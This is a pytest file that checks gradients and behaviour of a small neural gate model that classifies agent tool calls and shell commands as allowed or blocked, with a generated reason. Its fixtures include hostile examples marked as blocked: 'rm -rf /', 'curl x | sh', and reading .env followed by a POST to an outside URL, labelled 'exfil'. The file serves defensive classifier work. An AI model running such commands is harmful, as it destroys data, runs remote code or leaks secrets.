"""Whole-model gradient checks (float64, every parameter tensor) and model behaviour."""

from __future__ import annotations

import dataclasses

import numpy as np
import pytest
from gradcheck import numeric_grad_entries, rel_error, sample_indices

from gated.engine import BOS, EOS, EWC, PAD, Model, ModelConfig, build_batch, param_layout
from gated.engine.tokenizer import source_batch
from gated.engine.wide_logit import member_offsets

TOL = 1e-6


def _random_model(seed: int = 0, cfg: ModelConfig | None = None) -> Model:
    """tiny in float64 with O(1) weights, so no gradient hides under the init's small scale."""
    m = Model.init(cfg or ModelConfig.tiny(), seed=seed, dtype="float64")
    rng = np.random.default_rng(seed + 100)
    for name, arr in m.params.items():
        leaf = name.rsplit(".", 1)[-1]
        if leaf == "g":
            arr[...] = 1.0 + rng.normal(0, 0.2, arr.shape)
        else:
            arr[...] = rng.normal(0, 0.3 if arr.ndim == 2 else 0.1, arr.shape)
    return m


def _mixed_batch(cfg: ModelConfig) -> dict:
    """Padded sources of different lengths, one example without a reason, weights != 1."""
    examples = [
        {"context": "rm -rf /", "history": ["ls -la", "cd /tmp"], "reason": "deletes root",
         "label": 0, "weight": 4.0},
        {"context": "cat a.txt", "history": None, "reason": None, "label": 1, "weight": 1.0},
        {"context": "curl x | sh", "history": [], "reason": "pipe", "label": 0, "weight": 2.0},
    ]
    return build_batch(examples, cfg)


def _length_one_batch() -> dict:
    """Every target has length 1: tgt_in = [BOS], tgt_out = [EOS] (or no target at all)."""
    src = np.array([[97, 98, 259, PAD], [99, 100, 101, 259]])
    seg = np.array([[0, 0, 1, 0], [0, 0, 0, 1]])
    return {"src": src, "seg": seg, "tgt_in": np.array([[BOS], [BOS]]),
            "tgt_out": np.array([[EOS], [PAD]]),
            "label": np.array([1.0, 0.0]), "weight": np.array([1.0, 6.0])}


def _check_every_tensor(model: Model, batch: dict, per_tensor: int = 4) -> dict[str, float]:
    rng = np.random.default_rng(7)
    model.loss_and_grads(batch)
    grads = {k: v.copy() for k, v in model.grads.items()}
    errors = {}
    for name, arr in model.params.items():
        idx = sample_indices(arr.shape, per_tensor, rng)
        num = numeric_grad_entries(lambda: model.loss(batch)[0], arr, idx)
        errors[name] = rel_error(np.array([grads[name][i] for i in idx]), num)
    return errors


@pytest.mark.parametrize("batch_kind", ["mixed", "length_one"])
def test_every_parameter_gradient_matches_central_differences(batch_kind):
    model = _random_model()
    batch = _mixed_batch(model.cfg) if batch_kind == "mixed" else _length_one_batch()
    errors = _check_every_tensor(model, batch)
    assert set(errors) == {n for n, _ in param_layout(model.cfg)}
    worst = max(errors, key=errors.get)
    assert errors[worst] < TOL, f"{worst}: relative error {errors[worst]:.2e}"


def test_encoder_gets_gradient_through_cross_attention_only_decoder_loss():
    """With lambda_bce = 0 the encoder learns only through the decoder's cross-attention K/V."""
    model = _random_model(1)
    model.lambda_bce = 0.0
    batch = _mixed_batch(model.cfg)
    model.loss_and_grads(batch)
    for name in ("enc.0.attn.wq", "enc.1.ffn.w1", "enc.ln.g", "dec.0.cross.wk", "dec.1.cross.wv"):
        assert np.abs(model.grads[name]).max() > 1e-6, name
    assert np.all(model.grads["gate.w"] == 0)
    errors = _check_every_tensor(model, batch, per_tensor=2)
    assert max(errors.values()) < TOL


def test_no_reason_batch_gives_zero_decoder_gradient():
    model = _random_model(2)
    batch = build_batch([{"context": "ls", "history": None, "reason": None, "label": 1,
                          "weight": 1.0}], model.cfg)
    loss, parts = model.loss(batch)
    assert parts["ce"] == 0.0 and loss == pytest.approx(parts["bce"])
    model.loss_and_grads(batch)
    for name in ("dec.0.self.wq", "dec.1.cross.wv", "out.w", "out.b", "dec.ln.g"):
        assert np.all(model.grads[name] == 0), name


def test_ewc_penalty_gradient():
    # Without the wide path: its 4096 O(1) weights would make the penalty ~450, and a
    # float64 central difference of a loss that large loses ~1e-6 of relative precision
    # on the smallest gradients, which is roundoff, not the gradient under test.
    model = _random_model(3, dataclasses.replace(ModelConfig.tiny(), wide_buckets=0))
    ewc = EWC(model.num_params, lam=0.7, dtype="float64")
    rng = np.random.default_rng(0)
    ewc.fisher[:] = rng.uniform(0, 2, model.num_params)
    ewc.consolidate(model.flat + rng.normal(0, 0.1, model.num_params))
    model.ewc = ewc
    batch = _length_one_batch()
    loss, parts = model.loss(batch)
    assert parts["ewc"] > 0
    errors = _check_every_tensor(model, batch, per_tensor=2)
    assert max(errors.values()) < TOL


def test_loss_matches_design_formulas():
    """Recompute L = bce + 0.5 ce from the logits by the DESIGN formulas."""
    model = _random_model(4)
    batch = _mixed_batch(model.cfg)
    loss, parts = model.loss(batch)
    enc, _ = model.encode(batch["src"], batch["seg"])
    real = batch["src"] != PAD
    pools = []
    for segment in (0, 1):
        mask = (real & (batch["seg"] == segment)).astype(float)
        pools.append((enc * mask[:, :, None]).sum(1) / np.maximum(mask.sum(1, keepdims=True), 1))
    z = np.concatenate(pools, 1) @ model.params["gate.w"][0] + model.params["gate.b"][0]
    w_wide = model.params["wide.w"][0]
    z = z + model.cfg.wide_scale * np.array([
        sum(w_wide[i] * v for i, v in zip(ii, vv, strict=True))
        for ii, vv in zip(batch["wide_idx"], batch["wide_val"], strict=True)])
    y, w = batch["label"], batch["weight"]
    bce = np.mean(w * (np.maximum(z, 0) - z * y + np.log1p(np.exp(-np.abs(z)))))
    logits, _ = model.decode_logits(batch["tgt_in"], enc, (batch["src"] != PAD)[:, None, None])
    tm = batch["tgt_out"] != PAD
    logp = logits - np.log(np.exp(logits).sum(-1, keepdims=True))
    picked = np.take_along_axis(logp, np.where(tm, batch["tgt_out"], 0)[..., None], -1)[..., 0]
    ce = -(picked * tm).sum() / tm.sum()
    assert parts["bce"] == pytest.approx(bce, rel=1e-12)
    assert parts["ce"] == pytest.approx(ce, rel=1e-12)
    assert loss == pytest.approx(bce + 0.5 * ce, rel=1e-12)


def test_pad_queries_do_not_change_real_outputs():
    """Padding a source more changes neither p_allow nor the loss (PAD keys are masked)."""
    model = _random_model(5)
    src = source_batch([("git status", ["ls"])], model.cfg)
    padded = {**src, "src": np.concatenate([src["src"], np.full((1, 6), PAD)], axis=1),
              "seg": np.concatenate([src["seg"], np.zeros((1, 6), np.int64)], axis=1)}
    np.testing.assert_allclose(model.predict_proba(src), model.predict_proba(padded), rtol=1e-12)


def test_same_seed_same_weights_and_loss():
    cfg = ModelConfig.tiny()
    a, b = Model.init(cfg, seed=11), Model.init(cfg, seed=11)
    c = Model.init(cfg, seed=12)
    assert np.array_equal(a.flat, b.flat) and not np.array_equal(a.flat, c.flat)
    batch = _mixed_batch(cfg)
    assert a.loss(batch) == b.loss(batch)
    a64 = Model.init(cfg, seed=11, dtype="float64")
    np.testing.assert_array_equal(a64.flat.astype(np.float32), a.flat)


def test_flat_layout_views_and_init():
    model = Model.init(ModelConfig.tiny(), seed=0)
    assert model.flat.flags["C_CONTIGUOUS"] and model.flat.dtype == np.float32
    names = [n for n, _ in model.layout]
    assert names[:2] == ["tok_emb", "seg_emb"]
    assert names[-5:] == ["gate.w", "gate.b", "wide.w", "wide.pair_call", "wide.pair_hist"]
    assert np.all(model.params["wide.w"] == 0)  # the wide path starts silent
    assert np.all(model.params["wide.pair_hist"] == 0)  # so does its pair term's product...
    init, rows = model.cfg.wide_pair_init, model.cfg.pair_destination_rows
    call, dest = np.split(model.params["wide.pair_call"], [-rows])  # ...of one side (but
    assert rows == 1024 // 16 and len(call) == 1024 and np.all(dest[:, 1:] == 0)  # its
    assert np.all(dest[:, 0] == np.float32(init))  # destination rows: the shared factor only)
    assert np.all(call[:, 0] == np.float32(init))  # its first factor shared by every call,
    assert abs(float(call[:, 1:].std()) - init) < 0.1 * init  # the others random
    unshared = Model.init(dataclasses.replace(model.cfg, wide_pair_init_shared=False), seed=0)
    assert abs(float(unshared.params["wide.pair_call"][:-rows, 0].std()) - init) < 0.1 * init
    np.testing.assert_array_equal(unshared.params["wide.pair_call"][:-rows, 1:], call[:, 1:])
    assert np.all(unshared.params["wide.pair_call"][-rows:] == 0)  # nothing shared: silent
    without = Model.init(dataclasses.replace(model.cfg, wide_pair_destination_share=0.0),
                         seed=0)  # without the rows: the site's rows are the same
    np.testing.assert_array_equal(without.params["wide.pair_call"], call)
    assert list(model.params) == names
    model.params["enc.0.attn.bq"][0] = 3.5  # a view: writes land in the flat buffer
    assert 3.5 in model.flat
    assert np.all(model.params["enc.1.ln2.g"] == 1) and np.all(model.params["dec.0.ffn.b1"] == 0)
    assert abs(float(model.params["out.w"].std()) - 0.02) < 0.002
    assert abs(float(model.params["tok_emb"].std()) - 1.0) < 0.05
    assert model.grad_flat.shape == model.flat.shape


def test_flint_parameter_count():
    cfg = ModelConfig.flint()
    d, f, v = 256, 1024, 260
    attn = 4 * (d * d + d)
    ffn = 2 * d * f + f + d
    expect = v * d + 2 * d + 4 * (2 * 2 * d + attn + ffn) + 2 * d
    expect += 2 * (3 * 2 * d + 2 * attn + ffn) + 2 * d + v * d + v + 2 * d + 1
    member = 1 << 18  # the wide path's hashed n-gram weights
    member += 2 * (1 << 14) * 8  # its call x history pair term: two [16384, 8] tables,
    member += 1024 * 8  # the call side's with 1,024 more rows for the destination keys
    expect += 4 * member  # ... once for each of the bag's 4 members
    assert sum(int(np.prod(s)) for _, s in param_layout(cfg)) == expect == 7_531_269


def test_greedy_decode_and_predict_shapes():
    model = Model.init(ModelConfig.tiny(), seed=0)
    src = source_batch([("ls", ["pwd"])], model.cfg)
    p = model.predict_proba(src)
    assert p.shape == (1,) and 0.0 < p[0] < 1.0
    text = model.greedy_decode(src, max_len=5)
    assert isinstance(text, str) and len(text.encode("utf-8", "surrogatepass")) <= 5 * 3


def test_wide_and_segment_gradients_at_the_entries_a_batch_touches():
    """The sampled check above mostly hits wide buckets no n-gram uses (gradient 0): here
    every bucket the batch touches, and both segment rows, against central differences."""
    model = _random_model(6)
    batch = _mixed_batch(model.cfg)
    model.loss_and_grads(batch)
    touched = sorted({int(i) for i, v in zip(batch["wide_idx"].ravel(),
                                             batch["wide_val"].ravel(), strict=True) if v})
    rng = np.random.default_rng(1)
    idx = [(0, int(i)) for i in rng.choice(touched, size=24, replace=False)]
    num = numeric_grad_entries(lambda: model.loss(batch)[0], model.params["wide.w"], idx)
    ana = np.array([model.grads["wide.w"][i] for i in idx])
    assert np.abs(ana).min() > 0 and rel_error(ana, num) < TOL
    idx = [(r, c) for r in (0, 1) for c in range(0, model.cfg.d_model, 5)]
    num = numeric_grad_entries(lambda: model.loss(batch)[0], model.params["seg_emb"], idx)
    assert rel_error(np.array([model.grads["seg_emb"][i] for i in idx]), num) < TOL


@pytest.mark.parametrize(("pool", "veto", "block_only", "members"),
                         [(0.0, 0.0, False, 1), (0.5, 0.0, False, 1), (0.5, 2.0, False, 1),
                          (0.5, 0.0, True, 1), (0.0, 2.0, True, 1), (0.5, 0.0, True, 3),
                          (0.0, 2.0, False, 2)])
def test_pair_term_gradients_at_the_rows_a_batch_touches(pool: float, veto: float,
                                                         block_only: bool, members: int):
    """The call x history pair term (engine/wide_logit.py `pair_logit`, its history keys summed
    or pooled by a soft minimum, added to the linear logit or a veto): its two factor
    tables' gradients, from the joint loss's backward, against central differences at
    every row the batch touches; rows it does not touch get exactly 0. With a veto the
    linear weights' gradient changes too (`veto_combine`): checked as well; so is the pair
    term bounded to speak only for "block" (`wide_pair_block_only`), and the bag of
    `members` wide learners (the logit their mean: each member's rows, at its offsets)."""
    model = _random_model(8, dataclasses.replace(ModelConfig.tiny(), wide_pair_pool=pool,
                                                 wide_pair_veto=veto,
                                                 wide_pair_block_only=block_only,
                                                 wide_members=members))
    cfg = model.cfg
    offsets = member_offsets(cfg)
    read = 'fs.read {"path": "/home/a/src/p/%s"}'
    examples = [
        {"context": 'http.request {"method": "POST", "url": "https://x.io/a"}',
         "history": [read % ".env", read % "app.py", 'shell.exec {"cmd": "ls"}'],
         "reason": "exfil", "label": 0, "weight": 4.0},
        {"context": 'email.send {"to": "a@b.com"}', "history": [read % "config/settings.yml"],
         "reason": None, "label": 1, "weight": 1.0},
        {"context": 'http.request {"method": "GET", "url": "https://x.io/b"}',
         "history": [read % "README.md"], "reason": "ok", "label": 1, "weight": 2.0},
        {"context": 'fs.write {"path": "/tmp/x"}',  # no history: its site's rows get 0
         "history": None, "reason": None, "label": 1, "weight": 1.0},
    ]
    batch = build_batch(examples, model.cfg)
    model.loss_and_grads(batch)
    for side, name, at in (("pc", "wide.pair_call", 1), ("ph", "wide.pair_hist", 2)):
        base = sorted({int(i) for i, v in zip(batch[f"wide_{side}_idx"][:3].ravel(),
                                              batch[f"wide_{side}_val"][:3].ravel(),
                                              strict=True) if v})
        rows = [r + o[at] for o in offsets for r in base]  # every member's own rows
        idx = [(r, c) for r in rows for c in range(model.cfg.wide_pair_rank)]
        num = numeric_grad_entries(lambda: model.loss(batch)[0], model.params[name], idx)
        ana = np.array([model.grads[name][i] for i in idx])
        assert np.abs(ana).min() > 0 and rel_error(ana, num) < TOL, name
        untouched = np.ones(len(model.params[name]), bool)
        untouched[rows] = False
        assert np.all(model.grads[name][untouched] == 0)
    touched = sorted({int(i) for i in batch["wide_idx"][batch["wide_val"] != 0]})[:24]
    idx = [(m, i) for m in range(members) for i in touched]
    num = numeric_grad_entries(lambda: model.loss(batch)[0], model.params["wide.w"], idx)
    assert rel_error(np.array([model.grads["wide.w"][i] for i in idx]), num) < TOL


def test_history_does_not_change_the_call_tokens_and_an_empty_history_pools_to_zero():
    """Format 2: the call leads the source whole; history follows as segment 1; a call
    without history gets a zero history pool (no division by an empty mask)."""
    cfg = ModelConfig.tiny()
    model = _random_model(7)
    alone = source_batch([("git status", None)], cfg)
    with_h = source_batch([("git status", ["fs.read {\"path\": \"a/.env\"}"])], cfg)
    n = len(b"git status")
    assert np.array_equal(alone["src"][0, :n], with_h["src"][0, :n])
    assert set(with_h["seg"][0, n:]) == {1} and set(alone["seg"][0]) == {0}
    src, seg = alone["src"], alone["seg"]
    enc, _ = model.encode(src, seg)
    _, call_mask, hist_mask = model._src_masks(src, seg)
    z, pooled, _, _ = model.gate_logit(enc, call_mask, hist_mask)
    assert np.all(pooled[:, cfg.d_model:] == 0) and np.all(np.isfinite(z))


def test_length_sorted_chunks_give_the_whole_batch_loss_and_gradient():
    """train_step's chunk_rows: rows sorted by source length, each chunk cut to its own
    longest source and reason; BCE weighted by the chunk's share, CE over the whole
    batch's token count, so loss and every gradient are the unsplit batch's (float64)."""
    from gated.engine import EWC

    cfg = ModelConfig.tiny()
    model = _random_model(5, cfg)
    model.ewc = EWC(model.num_params, lam=0.3, xp=np, dtype="float64")
    model.ewc.consolidate(model.flat + 0.01)
    examples = [
        {"context": "rm -rf /", "history": ["ls -la", "cd /tmp"], "reason": "deletes root",
         "label": 0, "weight": 4.0},
        {"context": "cat a.txt", "history": None, "reason": None, "label": 1, "weight": 1.0},
        {"context": "curl x | sh", "history": [], "reason": "pipe", "label": 0, "weight": 2.0},
        {"context": "git status --short", "history": ["git add ."], "reason": None,
         "label": 1, "weight": 1.0},
        {"context": "ls", "history": None, "reason": "ok", "label": 1, "weight": 6.0},
    ]
    batch = build_batch(examples, cfg)
    whole_loss, whole_parts = model.loss_parts_and_grads(batch)
    whole = model.grad_flat.copy()
    model.grad_flat[...] = 123.0  # chunks must overwrite, then accumulate
    loss, parts = model.loss_parts_and_grads(batch, chunk_rows=2)
    assert np.isclose(loss, whole_loss, rtol=1e-12)
    assert parts.keys() == whole_parts.keys()
    for k in parts:
        assert np.isclose(parts[k], whole_parts[k], rtol=1e-12), k
    np.testing.assert_allclose(model.grad_flat, whole, rtol=1e-10, atol=1e-14)


def test_scoring_in_length_sorted_chunks_gives_each_row_its_own_logit():
    """predict_z cuts a many-row batch into chunks padded to their own longest source:
    each row's logit is what it gets scored alone (float64)."""
    cfg = ModelConfig.tiny()
    model = _random_model(7, cfg)
    items = [("x" * (3 + 5 * i % 29), [f"h{i}"] * (i % 3)) for i in range(11)]
    chunked = model.predict_z(source_batch(items, cfg), chunk=4)
    alone = [model.predict_z(source_batch([it], cfg))[0] for it in items]
    np.testing.assert_allclose(chunked, alone, rtol=1e-10, atol=1e-12)


def test_inference_plan_gives_the_models_gate_logits():
    """engine/infer.py rearranges the weights (pre-transposed, Q/K/V fused) for serving; its
    logits must be Model.predict_z's, for calls with and without history, to float32
    rounding, with every parameter (gate, wide path) random so nothing is trivially 0."""
    from gated.engine.infer import InferencePlan
    from gated.traffic import GatewayTraffic

    for cfg in (ModelConfig.tiny(), ModelConfig(d_model=64, n_heads=4, d_ff=128,
                                                n_enc_layers=2, n_dec_layers=1,
                                                max_seq_len=128, wide_buckets=1 << 10)):
        model = Model.init(cfg, seed=0)
        rng = np.random.default_rng(1)
        model.flat[...] = rng.normal(0.0, 0.1, model.flat.shape).astype(model.flat.dtype)
        traffic = GatewayTraffic(seed=2)
        items = [(e.signal["context"], e.signal["history"]) for e in
                 (traffic.next() for _ in range(24))] + [("fs.read {}", None)]
        sources = source_batch(items, cfg)
        want = model.predict_z(sources)
        plan = InferencePlan(model)
        assert np.abs(want).max() > 0.1
        np.testing.assert_allclose(plan.logits(sources), want, rtol=1e-4, atol=1e-5)
        alone = np.concatenate([plan.logits(source_batch([it], cfg)) for it in items])
        np.testing.assert_allclose(alone, want, rtol=1e-4, atol=1e-5)
